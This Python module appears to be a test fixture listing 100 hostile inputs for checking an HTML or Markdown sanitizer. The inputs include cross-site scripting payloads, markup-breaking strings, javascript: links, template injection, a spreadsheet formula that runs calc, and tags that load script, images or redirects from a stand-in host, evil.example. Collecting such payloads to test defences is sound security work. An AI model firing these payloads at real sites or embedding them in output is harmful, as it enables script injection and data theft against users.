"""One hundred hostile inputs: script, handlers, addresses, templates, style, broken markup, Markdown, odd characters."""

from __future__ import annotations

RUN = "window.pwned=1"

_ELEMENTS = (
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script >{RUN}</script >",
    f"<script\x0c>{RUN}</script>", "<script src=//evil.example/x.js></script>", f"<script type=module>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>", f"<svg onload={RUN}>", f"<svg/onload={RUN}//", f'"><svg onload={RUN}>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><set onbegin={RUN} attributeName=x>", f"<math><mi href='javascript:{RUN}'>x</mi></math>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe onload={RUN}>", "<object data='data:text/html,<script>parent.pwned=1</script>'></object>",
    f"<embed src='javascript:{RUN}'>", f"<template><img src=x onerror={RUN}></template>", "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>", "<link rel=stylesheet href=http://evil.example/x.css>",
    "<form action=http://evil.example/><input name=q><button>x</button></form>",
    "<frameset><frame src=//evil.example></frameset>",
)
_HANDLERS = (
    f'<img src=x onerror="{RUN}">', f"<img src=x:x onerror={RUN}>", f"<img/src/onerror={RUN}>", f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img src=`x` onerror=`{RUN}`>", f"<img src=x onerror\n=\n{RUN}>",
    f"<img src=x onerror&#61;{RUN}>", f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>x", f"<select autofocus onfocus={RUN}><option>x</select>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}></audio>",
    f"<video src=x onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>", f"<div onpointerover={RUN} style=position:fixed;inset:0>x</div>",
    f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle={RUN}>y</div>",
    f"<dialog open oncancel={RUN}>x</dialog>",
    f"<style>@keyframes x{{}}</style><p style='animation:x' onanimationstart={RUN}>x</p>",
    f"<p tabindex=0 autofocus onfocus={RUN}>x</p>",
)
_BREAKING = (
    f"' onmouseover='{RUN}' x='", f'" autofocus onfocus="{RUN}" x="', f"` onerror={RUN} `", f"'\"><img src=x onerror={RUN}>",
    f"</div></article></section><script>{RUN}</script>", "</textarea></article><style>*{display:none}</style>",
    f"</button><img src=x onerror={RUN}>", f"</summary></details><svg onload={RUN}>", f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>", f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>", f"</script><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->", f"<?xml version='1.0'?><x onload={RUN}/>",
    "<style>body{background:url(http://evil.example/b.png)}</style>",
    "<p style='background:url(http://evil.example/c.png)'>x</p>",
    "<b", "<", "<<<<>>>>", "&lt;script&gt;window.pwned=1&lt;/script&gt;", "&#60;script&#62;window.pwned=1&#60;/script&#62;",
)
_ADDRESSES = (
    f"javascript:{RUN}", f"<a href=javascript:{RUN}>x</a>",
    f"<a href=' java\tscript:{RUN}'>x</a>", f"<a href='&#106;avascript:{RUN}'>x</a>",
    f'<a href="#cite-0-1" onclick="{RUN}">x</a>', '<a href="#clause-15">15</a>', '<button data-ask="x">x</button>',
    f"data:text/html,<script>{RUN}</script>",
    "<img src=http://evil.example/b.png>", "<img srcset='http://evil.example/b.png 2x'>",
)
_MARKDOWN = (
    f"[a](javascript:{RUN}) ![b](http://evil.example/b.png)", f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}\n[x]", f"`<img src=x onerror={RUN}>`",
    f"```html\n<script>{RUN}</script>\n```", f"**<svg onload={RUN}>**",
    f"- <img src=x onerror={RUN}>", f"[1]<script>{RUN}</script>[2]",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$ `<b>`",
)
_TEMPLATES = (
    f"${{{RUN}}} {{{{{RUN}}}}} <%= 1 %>", "{{constructor.constructor('window.pwned=1')()}}", "${value}`+(window.pwned=1)+`",
    "{{#each this}}{{this}}{{/each}} {0} {question} %s %(x)s", "\\`${(window.pwned=1)}\\`", "=cmd|'/c calc'!A1",
)
_CHARACTERS = (
    f"‮<script>{RUN}</script>‬", f"＜script＞{RUN}＜/script＞", f"<scr​ipt>{RUN}</scr​ipt>", f"\ufeff<svg onload={RUN}>",
    f"ﹻ<img src=x onerror={RUN}>",
)

PAYLOADS = (*_ELEMENTS, *_HANDLERS, *_BREAKING, *_ADDRESSES, *_MARKDOWN, *_TEMPLATES, *_CHARACTERS)
assert len(PAYLOADS) == len(set(PAYLOADS)) == 100, len(PAYLOADS)
